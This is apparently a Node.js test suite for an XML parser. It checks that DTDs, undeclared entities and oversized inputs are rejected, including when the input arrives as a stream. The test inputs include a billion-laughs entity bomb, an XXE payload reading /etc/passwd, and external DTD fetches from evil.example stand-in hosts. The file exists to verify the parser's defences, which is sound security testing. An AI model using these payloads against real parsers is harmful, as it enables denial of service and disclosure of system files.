// Hostile XML: no DTD at all (billion laughs, XXE, parameter entities, internal subsets), undeclared
// entities, and every resource limit, checked as the bytes arrive (a stream fails before it is fed whole).

import assert from 'node:assert/strict';
import test from 'node:test';
import { parseXml, WitkeyError, XmlDecoder } from '../dist/esm/xml.js';

const utf8 = (s) => new TextEncoder().encode(s);
const isCode =
  (code, extra = {}) =>
  (e) => {
    assert.ok(e instanceof WitkeyError, `expected WitkeyError, got ${e?.stack ?? e}`);
    assert.equal(e.code, code, e.message);
    for (const [k, v] of Object.entries(extra)) assert.equal(e[k], v, `${k} in: ${e.message}`);
    return true;
  };

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>`;

test('any DTD is rejected: billion laughs, XXE (SYSTEM/PUBLIC), parameter entities, bare DOCTYPE', () => {
  const docs = [
    BILLION_LAUGHS,
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo PUBLIC "-//x//y" "http://evil.example/x.dtd"><foo/>',
    '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><foo/>',
    '<!DOCTYPE foo><foo/>',
    '<!doctype foo><foo/>',
    '<foo><!DOCTYPE foo></foo>',
    '<foo><!ENTITY x "y"></foo>',
    '<foo><!ELEMENT foo ANY></foo>',
  ];
  for (const xml of docs) {
    assert.throws(() => parseXml(utf8(xml)), isCode('INVALID_XML'), xml);
    // also as a stream, one byte at a time: the error comes at the '<!' + letter, before the rest
    const bytes = utf8(xml);
    const d = new XmlDecoder();
    const at = xml.search(/<![A-Za-z]/);
    let fed = 0;
    assert.throws(() => {
      for (; fed < bytes.length; fed++) d.write(bytes.subarray(fed, fed + 1));
      d.end();
    }, isCode('INVALID_XML'));
    assert.ok(fed <= Math.max(at + 2, 9), `failed after ${fed} bytes, markup at ${at}`);
  }
  assert.throws(
    () => parseXml(utf8(BILLION_LAUGHS)),
    (e) => /no DTD/.test(e.message),
  );
});

test('references to anything but the five predefined entities are INVALID_XML, in text and attributes', () => {
  for (const xml of [
    '<a>&xxe;</a>',
    '<a>&nbsp;</a>',
    '<a>&lol3;</a>',
    '<a>&AMP;</a>',
    '<a b="&xxe;"/>',
    '<a b="&copy;"/>',
    '<a b="&#x0;"/>',
    '<a b="&amp"/>',
    '<a>&%p;</a>',
    '<a>&thisisaverylongentityname;</a>',
  ]) {
    assert.throws(() => parseXml(utf8(xml)), isCode('INVALID_XML'), xml);
  }
  assert.throws(
    () => parseXml(utf8('<a>&xxe;</a>')),
    (e) => /undeclared entity '&xxe;'/.test(e.message) && e.offset === 3,
  );
});

function feedUntilError(decoder, chunks) {
  let fed = 0;
  let error;
  try {
    for (const c of chunks) {
      decoder.write(c);
      fed += c.length;
    }
    decoder.end();
  } catch (e) {
    error = e;
  }
  return { fed, error };
}

function* repeatChunks(head, unit, size, count, tail = '') {
  yield utf8(head);
  const chunk = utf8(unit.repeat(Math.ceil(size / unit.length)).slice(0, size));
  for (let i = 0; i < count; i++) yield chunk;
  yield utf8(tail);
}

test('maxDepth: nesting beyond the limit fails at the first element too deep (default 32)', () => {
  const deep = (n) => '<a>'.repeat(n) + '</a>'.repeat(n);
  assert.equal(parseXml(utf8(deep(32))).root.name, 'a');
  assert.throws(() => parseXml(utf8(deep(33))), isCode('XML_LIMIT_EXCEEDED', { field: 'maxDepth', offset: 96 }));
  assert.throws(() => parseXml(utf8(deep(5)), { limits: { maxDepth: 4 } }), isCode('XML_LIMIT_EXCEEDED', { field: 'maxDepth' }));
  // a stream of 100 000 opening tags stops at the 33rd
  const { fed, error } = feedUntilError(new XmlDecoder({ limits: { maxBytes: Infinity } }), repeatChunks('', '<a>', 3, 100000));
  assert.ok(isCode('XML_LIMIT_EXCEEDED', { field: 'maxDepth' })(error));
  assert.ok(fed < 200, `fed ${fed}`);
});

test('maxTextLength: a huge text node fed as a stream fails soon after the limit, not at its end', () => {
  const limit = 1 << 20;
  // 64 KiB chunks of text, 1 GiB in total if it were fed whole
  const { fed, error } = feedUntilError(
    new XmlDecoder({ limits: { maxBytes: Infinity } }),
    repeatChunks('<a>', 'x', 65536, 16384, '</a>'),
  );
  assert.ok(isCode('XML_LIMIT_EXCEEDED', { field: 'maxTextLength' })(error));
  assert.ok(fed <= limit + 65536, `fed ${fed}`);
  // the same with GBK-free multi-byte UTF-8 text and CDATA
  const r2 = feedUntilError(
    new XmlDecoder({ limits: { maxBytes: Infinity, maxTextLength: 1000 } }),
    repeatChunks('<a><![CDATA[', '天', 999, 100000),
  );
  assert.ok(isCode('XML_LIMIT_EXCEEDED', { field: 'maxTextLength' })(r2.error));
  assert.ok(r2.fed < 10000, `fed ${r2.fed}`);
  // text pieces of one element add up (text around children and references count)
  assert.throws(
    () => parseXml(utf8(`<a>${'x'.repeat(6)}<b/>${'y'.repeat(6)}&amp;</a>`), { limits: { maxTextLength: 12 } }),
    isCode('XML_LIMIT_EXCEEDED', { field: 'maxTextLength' }),
  );
  assert.equal(
    parseXml(utf8(`<a>${'x'.repeat(6)}<b/>${'y'.repeat(5)}&amp;</a>`), { limits: { maxTextLength: 12 } }).root.text.length,
    12,
  );
  // attribute values and single pieces of markup (a tag, a comment) are bounded too
  assert.throws(
    () => parseXml(utf8(`<a b="${'v'.repeat(20)}"/>`), { limits: { maxTextLength: 10 } }),
    isCode('XML_LIMIT_EXCEEDED', { field: 'maxTextLength' }),
  );
  const r3 = feedUntilError(new XmlDecoder({ limits: { maxBytes: Infinity } }), repeatChunks('<a b="', 'v', 65536, 16384));
  assert.ok(isCode('XML_LIMIT_EXCEEDED', { field: 'maxTextLength' })(r3.error));
  assert.ok(r3.fed <= limit + 65536, `fed ${r3.fed}`);
  const r4 = feedUntilError(new XmlDecoder({ limits: { maxBytes: Infinity } }), repeatChunks('<a><!--', ' ', 65536, 16384));
  assert.ok(isCode('XML_LIMIT_EXCEEDED', { field: 'maxTextLength' })(r4.error));
  assert.ok(r4.fed <= limit + 65536, `fed ${r4.fed}`);
});

test('maxBytes: counted as chunks arrive (default 16 MiB)', () => {
  const { fed, error } = feedUntilError(new XmlDecoder(), repeatChunks('<a>', `<b>${'x'.repeat(57)}</b>`, 65536, 1000, '</a>'));
  assert.ok(isCode('XML_LIMIT_EXCEEDED', { field: 'maxBytes' })(error));
  assert.ok(fed <= 16 * 1024 * 1024 && fed > 16 * 1024 * 1024 - 65536 - 3, `fed ${fed}`);
  assert.throws(
    () => parseXml(utf8('<a>12345</a>'), { limits: { maxBytes: 11 } }),
    isCode('XML_LIMIT_EXCEEDED', { field: 'maxBytes' }),
  );
  assert.equal(parseXml(utf8('<a>12345</a>'), { limits: { maxBytes: 12 } }).root.text, '12345');
});

test('maxElements, maxAttributes, maxNameLength', () => {
  const many = (n) => `<a>${'<b/>'.repeat(n - 1)}</a>`;
  assert.equal(parseXml(utf8(many(100)), { limits: { maxElements: 100 } }).root.children.length, 99);
  assert.throws(
    () => parseXml(utf8(many(101)), { limits: { maxElements: 100 } }),
    isCode('XML_LIMIT_EXCEEDED', { field: 'maxElements' }),
  );
  // records count too, though they are not kept
  const d = new XmlDecoder({ limits: { maxElements: 100, maxBytes: Infinity }, split: (p) => p.length === 2 });
  const { error } = feedUntilError(d, repeatChunks('<a>', '<b/>', 4000, 100));
  assert.ok(isCode('XML_LIMIT_EXCEEDED', { field: 'maxElements' })(error));
  const attrs = (n) => `<a ${Array.from({ length: n }, (_, i) => `a${i}="${i}"`).join(' ')}/>`;
  assert.equal(Object.keys(parseXml(utf8(attrs(32))).root.attributes).length, 32);
  assert.throws(() => parseXml(utf8(attrs(33))), isCode('XML_LIMIT_EXCEEDED', { field: 'maxAttributes' }));
  assert.equal(parseXml(utf8(`<${'n'.repeat(256)}/>`)).root.name.length, 256);
  assert.throws(() => parseXml(utf8(`<${'n'.repeat(257)}/>`)), isCode('XML_LIMIT_EXCEEDED', { field: 'maxNameLength' }));
  assert.throws(() => parseXml(utf8(`<a ${'n'.repeat(257)}="1"/>`)), isCode('XML_LIMIT_EXCEEDED', { field: 'maxNameLength' }));
  assert.throws(
    () => parseXml(utf8(`<${'名'.repeat(11)}/>`), { limits: { maxNameLength: 10 } }),
    isCode('XML_LIMIT_EXCEEDED', { field: 'maxNameLength' }),
  );
});
